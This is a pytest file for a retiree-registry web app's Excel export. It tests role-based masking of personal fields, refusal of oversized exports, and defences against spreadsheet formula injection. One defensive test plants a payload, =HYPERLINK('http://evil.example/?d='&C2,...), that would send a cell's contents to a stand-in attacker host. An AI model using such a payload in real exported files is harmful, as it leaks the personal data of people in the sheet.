"""The search as a spreadsheet: the same rows as the page and the API, masked the same way."""

from __future__ import annotations

from io import BytesIO

import pytest
from openpyxl import load_workbook

from tests.web.conftest import login

from .walk import JINSHUI


def sheet_rows(client, **query) -> list[tuple]:
    response = client.get("/retirees/export.xlsx", query_string=query)
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    workbook = load_workbook(BytesIO(response.data), read_only=True)
    return list(workbook.active.iter_rows(values_only=True))


@pytest.mark.parametrize("username", ["county", "archive", "supervisor"])
def test_the_export_has_the_rows_and_masking_of_the_api(api, client, registered, username):
    login(client, username)
    header, *rows = sheet_rows(client, county=JINSHUI)
    assert header[:3] == ("姓名", "性别", "身份证号") and "移交状态" in header and "档案状态" in header
    expected = {(i["name"], i["id_number"]) for i in api.retirees(username, county=JINSHUI)["items"]}
    assert {(row[0], row[2]) for row in rows} == expected
    assert len(rows) == len(expected) == 5


def test_the_export_speaks_chinese(client, registered):
    login(client, "enterprise")
    header, *rows = sheet_rows(client, q="吴老")
    (row,) = rows
    cells = dict(zip(header, row, strict=True))
    assert cells["移交状态"] == "已登记" and cells["档案状态"] == "未整理"
    assert cells["接收地"] == "不移交" and cells["人员类别"] == "离休干部"
    assert cells["移交企业"] == "中国平煤神马能源化工集团"


def test_an_outsider_exports_an_empty_sheet(client, registered):
    login(client, "finance")
    assert sheet_rows(client) == [sheet_rows(client)[0]]


def test_too_large_an_export_is_refused(client, registered, monkeypatch):
    from webapp.registry import export

    monkeypatch.setattr(export, "MAX_ROWS", 3)
    login(client, "supervisor")
    response = client.get("/retirees/export.xlsx")
    assert response.status_code == 422


@pytest.mark.parametrize(("username", "full"), [("county", True), ("archive", False), ("supervisor", False)])
def test_a_masked_row_leaves_birth_date_and_hukou_empty(client, registered, username, full):
    login(client, username)
    header, *rows = sheet_rows(client, county=JINSHUI)
    cells = [dict(zip(header, row, strict=True)) for row in rows]
    assert cells and all((c["出生日期"] is not None) is full for c in cells)
    assert all((c["户籍地区划代码"] is not None) is full for c in cells)
    assert all(c["常住地区划代码"] for c in cells)


def test_a_name_that_looks_like_a_formula_is_exported_as_text(client, registered, sessions):
    """Issue 13 (7): a roster name ``=HYPERLINK(…)`` must not land as a live formula."""
    from sqlalchemy import update

    from engine.registry.retirees import Retiree

    evil = '=HYPERLINK("http://evil.example/?d="&C2,"点击")'
    with sessions() as session, session.begin():
        session.execute(update(Retiree).where(Retiree.name == "王建国").values(name=evil, phone="@SUM(1+1)"))
    login(client, "enterprise")
    response = client.get("/retirees/export.xlsx", query_string={"q": "HYPERLINK"})
    sheet = load_workbook(BytesIO(response.data)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells]
    assert "'" + evil in values and "'@SUM(1+1)" in values


def test_every_formula_start_is_neutralised():
    from engine.cells import neutral

    for text in ("=1+1", "+1", "-1+2", "@A1", "\t=1", "\r=1"):
        assert neutral(text) == "'" + text
    assert neutral("王建国") == "王建国" and neutral("0371-63912345") == "0371-63912345" and neutral(-1) == -1
